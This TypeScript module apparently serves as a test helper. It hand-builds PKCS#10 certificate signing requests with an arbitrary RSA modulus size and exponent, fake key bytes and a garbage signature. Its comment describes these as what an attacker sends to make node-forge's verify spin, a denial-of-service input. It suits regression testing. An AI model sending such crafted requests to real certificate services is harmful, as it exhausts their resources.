/**
 * Hand-built PKCS#10 CSRs with an arbitrary RSA modulus size and public exponent (fake key bytes,
 * garbage signature): what an attacker sends to make node-forge's verify spin. Built with
 * node-forge's ASN.1 writer, so no large key is ever generated.
 */
import { randomBytes } from 'node:crypto';
import forge from 'node-forge';

const { asn1 } = forge;

function intBytes(n: bigint): string {
  let hex = n.toString(16);
  if (hex.length % 2) hex = `0${hex}`;
  if (parseInt(hex.slice(0, 2), 16) & 0x80) hex = `00${hex}`;
  return Buffer.from(hex, 'hex').toString('binary');
}

/** A PEM CSR over an RSA "key" of `modulusBits` bits (top and bottom bit set) and exponent `exponent`. */
export function craftedCsr(opts: { modulusBits: number; exponent: bigint; signatureBytes?: number }): string {
  const raw = randomBytes(Math.ceil(opts.modulusBits / 8));
  const bits = BigInt(opts.modulusBits);
  const n = (BigInt(`0x${raw.toString('hex')}`) % (1n << bits)) | (1n << (bits - 1n)) | 1n;
  const U = asn1.Class.UNIVERSAL;
  const T = asn1.Type;
  const rsaKey = asn1.create(U, T.SEQUENCE, true, [asn1.create(U, T.INTEGER, false, intBytes(n)), asn1.create(U, T.INTEGER, false, intBytes(opts.exponent))]);
  const spki = asn1.create(U, T.SEQUENCE, true, [
    asn1.create(U, T.SEQUENCE, true, [asn1.create(U, T.OID, false, asn1.oidToDer('1.2.840.113549.1.1.1').getBytes()), asn1.create(U, T.NULL, false, '')]),
    asn1.create(U, T.BITSTRING, false, `\x00${asn1.toDer(rsaKey).getBytes()}`),
  ]);
  const subject = asn1.create(U, T.SEQUENCE, true, [
    asn1.create(U, T.SET, true, [
      asn1.create(U, T.SEQUENCE, true, [asn1.create(U, T.OID, false, asn1.oidToDer('2.5.4.3').getBytes()), asn1.create(U, T.UTF8, false, 'attacker')]),
    ]),
  ]);
  const info = asn1.create(U, T.SEQUENCE, true, [asn1.create(U, T.INTEGER, false, '\x00'), subject, spki, asn1.create(asn1.Class.CONTEXT_SPECIFIC, 0, true, [])]);
  const req = asn1.create(U, T.SEQUENCE, true, [
    info,
    asn1.create(U, T.SEQUENCE, true, [asn1.create(U, T.OID, false, asn1.oidToDer('1.2.840.113549.1.1.11').getBytes()), asn1.create(U, T.NULL, false, '')]),
    asn1.create(U, T.BITSTRING, false, `\x00${randomBytes(opts.signatureBytes ?? Math.ceil(opts.modulusBits / 8)).toString('binary')}`),
  ]);
  const b64 = Buffer.from(asn1.toDer(req).getBytes(), 'binary').toString('base64');
  return `-----BEGIN CERTIFICATE REQUEST-----\n${b64.replace(/.{1,64}/g, '$&\n')}-----END CERTIFICATE REQUEST-----\n`;
}
